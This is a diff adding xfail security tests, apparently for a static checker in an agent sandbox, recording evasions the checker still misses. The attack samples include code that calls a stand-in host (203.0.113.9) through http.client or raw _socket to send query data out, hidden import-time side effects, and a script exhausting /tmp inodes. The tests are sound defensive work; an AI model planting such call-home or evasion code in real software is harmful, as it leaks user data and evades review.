@@ -500,11 +500,17 @@ def _report(qs):
 """
 
 
-def _query_rules(tmp_path: Path, imp: str, name: str) -> set[str]:
+def _query_rules(tmp_path: Path, imp: str, name: str, client: str = "urllib.request") -> set[str]:
     import difflib
 
     old = _QUERY_SOURCE.format(imp=imp, name=name)
-    new = "import urllib.request\n" + old + _CALL_HOME
+    home = _CALL_HOME
+    if client == "http.client":
+        home = home.replace(
+            'urllib.request.urlopen("http://203.0.113.9/?q=" + qs, timeout=0.1)',
+            'http.client.HTTPConnection("203.0.113.9", timeout=0.1).request("GET", "/?q=" + qs)',
+        )
+    new = f"import {client}\n" + old + home
     src, ws = tmp_path / "src", tmp_path / "ws"
     src.mkdir(parents=True)
     ws.mkdir(parents=True)
@@ -640,4 +646,241 @@ def test_r17_41_random_state_through_generic_callers(tmp_path: Path, head: str) 
     finally:
         random.setstate(saved)
     assert "import_side_effect" in _rules(tmp_path / "control", "import random\nvars(random)['seed'](0)\n")
+    assert "import_side_effect" in _rules(tmp_path / "attack", head)
+
+
+_INODES_SCRIPT = r'''
+import sys, tempfile
+from pathlib import Path
+sys.path.insert(0, sys.argv[1])
+import agent.sandbox as sb
+code = """
+import os
+n = 0
+fd = os.open("/tmp", os.O_RDONLY)
+try:
+    for i in range(150000):
+        os.close(os.open("f%d" % i, os.O_CREAT | os.O_WRONLY, 0o600, dir_fd=fd))
+        n += 1
+except OSError:
+    pass
+print("MADE", n)
+"""
+d = Path(tempfile.mkdtemp(dir=sys.argv[2]))
+rc, out, _, _ = sb.run_command([sys.executable, "-c", code], d, timeout_s=60)
+print("RC", rc, out)
+'''
+
+
+@pytest.mark.xfail(strict=True, reason="open: r17-42 /tmp's inodes unbounded (kernel memory), normal user")
+def test_r17_42_tmp_inodes_unbounded_normal_user() -> None:
+    import os
+    import shutil
+    import subprocess
+    import sys
+    import tempfile
+
+    from tests.security.conftest import AS_A_USER
+
+    root = Path(__file__).resolve().parents[2]
+    tmp_path = Path(tempfile.mkdtemp(prefix="r17-42-"))  # nobody's to enter (pytest's tmp is root's 0700)
+    os.chmod(tmp_path, 0o777)
+    script = tmp_path / "inodes.py"
+    script.write_text(_INODES_SCRIPT)
+    wrapper = ["unshare", "--mount", "--propagation", "private", "--", "sh", "-c", AS_A_USER, "sh"]
+    argv = [*wrapper, sys.executable, str(script), str(root), str(tmp_path)]
+    run = subprocess.run(argv, capture_output=True, text=True, timeout=60)
+    shutil.rmtree(tmp_path, ignore_errors=True)
+    words = (run.stdout + run.stderr).split()
+    made = [int(words[i + 1]) for i, w in enumerate(words[:-1]) if w == "MADE"]
+    assert made, run.stdout + run.stderr
+    assert made[0] < 150000  # a 64 MB /tmp holds a bounded number of files (each costs kernel memory)
+
+
+@pytest.mark.xfail(strict=True, reason="open: r17-44 warnings filters, locale, root logger changed through methods")
+@pytest.mark.parametrize(
+    "head",
+    [
+        "import warnings\nwarnings.filters.clear()\n",
+        "import warnings\nwarnings.filters.insert(0, ('ignore', None, Warning, None, 0))\n",
+        "import locale\nlocale.resetlocale()\n",
+        "import logging\nlogging.root.setLevel(100)\n",
+    ],
+)
+def test_r17_44_stdlib_state_through_its_methods(tmp_path: Path, head: str) -> None:
+    assert "import_side_effect" in _rules(tmp_path / "control", "import warnings\nwarnings.simplefilter('ignore')\n")
+    assert "import_side_effect" in _rules(tmp_path / "attack", head)
+
+
+@pytest.mark.xfail(strict=True, reason="open: r17-45 a function a module function returns, called at import")
+@pytest.mark.parametrize(
+    "head",
+    [
+        "import random\ndef _deco(n):\n    def wrap(f):\n        random.seed(n)\n        return f\n    return wrap\n"
+        "@_deco(0)\ndef _g():\n    pass\n",
+        "import random\ndef _outer():\n    def inner():\n        random.seed(0)\n    return inner\n_outer()()\n",
+        "import random\ndef _mk():\n    return lambda: random.seed(0)\n_mk()()\n",
+    ],
+)
+def test_r17_45_returned_function_called_at_import(tmp_path: Path, head: str) -> None:
+    import random
+
+    saved = random.getstate()
+    try:
+        random.seed(0)
+        seeded = random.random()
+        random.seed()
+        exec(compile(head, "gcd.py", "exec", dont_inherit=True), {"__name__": "gcd"})  # imported: it seeds
+        assert random.random() == seeded
+    finally:
+        random.setstate(saved)
+    control = "import random\ndef _i():\n    random.seed(0)\n_i()\n"
+    assert "import_side_effect" in _rules(tmp_path / "control", control)
+    assert "import_side_effect" in _rules(tmp_path / "attack", head)
+
+
+@pytest.mark.xfail(strict=True, reason="open: r17-46 setpgid, sched_setscheduler, setresgid: siblings of listed calls")
+@pytest.mark.parametrize(
+    ("control", "head"),
+    [
+        ("import os\nos.setpgrp()\n", "import os\nos.setpgid(0, 0)\n"),
+        ("import os\nos.nice(19)\n", "import os\nos.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))\n"),
+        ("import os\nos.setgid(65534)\n", "import os\nos.setresgid(65534, 65534, 65534)\n"),
+    ],
+)
+def test_r17_46_process_calls_siblings_unlisted(tmp_path: Path, control: str, head: str) -> None:
+    assert "import_side_effect" in _rules(tmp_path / "control", control)
+    assert "import_side_effect" in _rules(tmp_path / "attack", head)
+
+
+@pytest.mark.xfail(strict=True, reason="open: r17-47 `from http import HTTPStatus` in the source excuses http.client")
+def test_r17_47_http_status_import_excuses_http_client(tmp_path: Path) -> None:
+    assert "network_client" in _query_rules(tmp_path / "control", "urllib.parse", "unquote", "http.client")
+    assert "network_client" in _query_rules(tmp_path / "attack", "http", "HTTPStatus", "http.client")
+
+
+@pytest.mark.xfail(
+    strict=True, reason="open: r17-49 stdout/stderr closed or reconfigured at import through their methods"
+)
+@pytest.mark.parametrize(
+    "head",
+    [
+        "import sys\nsys.stdout.close()\n",
+        "import sys\nsys.stderr.close()\n",
+        "import sys\nsys.stdout.reconfigure(errors='ignore')\n",
+    ],
+)
+def test_r17_49_std_streams_closed_at_import(tmp_path: Path, head: str) -> None:
+    assert "import_side_effect" in _rules(tmp_path / "control", "import io, sys\nsys.stdout = io.StringIO()\n")
+    assert "import_side_effect" in _rules(tmp_path / "attack", head)
+
+
+@pytest.mark.xfail(strict=True, reason="open: r17-50 a nested or class-body function called at import")
+@pytest.mark.parametrize(
+    "head",
+    [
+        "import random\ndef _o():\n    def _i():\n        random.seed(0)\n    _i()\n_o()\n",
+        "import random\nclass _A:\n    def _s():\n        random.seed(0)\n    _s()\n",
+        "import random\nclass _A:\n    _f = lambda: random.seed(0)\n    _f()\n",
+    ],
+)
+def test_r17_50_nested_or_class_body_function_called_at_import(tmp_path: Path, head: str) -> None:
+    import random
+
+    saved = random.getstate()
+    try:
+        random.seed(0)
+        seeded = random.random()
+        random.seed()
+        exec(compile(head, "gcd.py", "exec", dont_inherit=True), {"__name__": "gcd"})  # imported: it seeds
+        assert random.random() == seeded
+    finally:
+        random.setstate(saved)
+    assert "import_side_effect" in _rules(tmp_path, head)
+
+
+@pytest.mark.xfail(strict=True, reason="open: r17-51 a raw connection through the C module _socket")
+@pytest.mark.parametrize(
+    "head",
+    [
+        "import _socket\ndef _home():\n    s = _socket.socket()\n    s.connect(('203.0.113.9', 80))\n",
+        "from _socket import socket as _S\ndef _home():\n    _S().connect(('203.0.113.9', 80))\n",
+    ],
+)
+def test_r17_51_raw_connection_through_c_socket_module(tmp_path: Path, head: str) -> None:
+    control = "import socket\ndef _home():\n    s = socket.socket()\n    s.connect(('203.0.113.9', 80))\n"
+    assert _rules(tmp_path / "control", control)
+    assert _rules(tmp_path / "attack", head)
+
+
+@pytest.mark.xfail(strict=True, reason="open: r17-53 Decimal traps turned off at import through a subscript or update")
+@pytest.mark.parametrize(
+    "head",
+    [
+        "import decimal\ndecimal.getcontext().traps[decimal.InvalidOperation] = False\n",
+        "import decimal\ndecimal.getcontext().traps.update({decimal.DivisionByZero: False})\n",
+    ],
+)
+def test_r17_53_decimal_traps_off_at_import(tmp_path: Path, head: str) -> None:
+    control = "import decimal\ndecimal.getcontext().rounding = decimal.ROUND_DOWN\n"
+    assert "import_side_effect" in _rules(tmp_path / "control", control)
+    assert "import_side_effect" in _rules(tmp_path / "attack", head)
+
+
+@pytest.mark.xfail(strict=True, reason="open: r17-55 json's default encoder re-initialised at import")
+@pytest.mark.parametrize(
+    "head",
+    [
+        "import json\njson._default_encoder.__init__(sort_keys=True)\n",
+        "import copyreg\ncopyreg.dispatch_table.clear()\n",
+    ],
+)
+def test_r17_55_json_default_encoder_reinitialised_at_import(tmp_path: Path, head: str) -> None:
+    import json
+
+    try:
+        exec(compile("import json\njson._default_encoder.__init__(sort_keys=True)\n", "gcd.py", "exec"), {})
+        assert json.dumps({"b": 1, "a": 2}) == '{"a": 2, "b": 1}'  # the whole process's dumps changed
+    finally:
+        json._default_encoder.__init__()  # type: ignore[attr-defined, misc]
+    control = "import mimetypes\nmimetypes.types_map['.py'] = 'text/html'\n"
+    assert "import_side_effect" in _rules(tmp_path / "control", control)
+    assert "import_side_effect" in _rules(tmp_path / "attack", head)
+
+
+@pytest.mark.xfail(
+    strict=True, reason="open: r17-56 logging.basicConfig(force=True) and random._inst.__init__ at import"
+)
+@pytest.mark.parametrize(
+    "head",
+    [
+        "import logging\nlogging.basicConfig(level=100, force=True)\n",
+        "import random\nrandom._inst.__init__(0)\n",
+    ],
+)
+def test_r17_56_logging_basicconfig_force_and_inst_init(tmp_path: Path, head: str) -> None:
+    assert "import_side_effect" in _rules(tmp_path / "control", "import logging\nlogging.disable(50)\n")
+    assert "import_side_effect" in _rules(tmp_path / "attack", head)
+
+
+@pytest.mark.xfail(strict=True, reason="open: r17-57 a signal disposition set through the C module _signal")
+def test_r17_57_signal_through_c_module(tmp_path: Path) -> None:
+    control = "import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
+    assert "import_side_effect" in _rules(tmp_path / "control", control)
+    assert _rules(tmp_path / "attack", "import _signal\n_signal.signal(_signal.SIGTERM, _signal.SIG_IGN)\n")
+
+
+@pytest.mark.xfail(strict=True, reason="open: r17-58 listed process calls through _locale and _thread")
+@pytest.mark.parametrize(
+    ("control", "head"),
+    [
+        (
+            "import locale\nlocale.setlocale(locale.LC_ALL, 'C')\n",
+            "import _locale\n_locale.setlocale(_locale.LC_ALL, 'C')\n",
+        ),
+        ("import threading\nthreading.stack_size(65536)\n", "import _thread\n_thread.stack_size(65536)\n"),
+    ],
+)
+def test_r17_58_listed_calls_through_c_modules(tmp_path: Path, control: str, head: str) -> None:
+    assert "import_side_effect" in _rules(tmp_path / "control", control)
     assert "import_side_effect" in _rules(tmp_path / "attack", head)
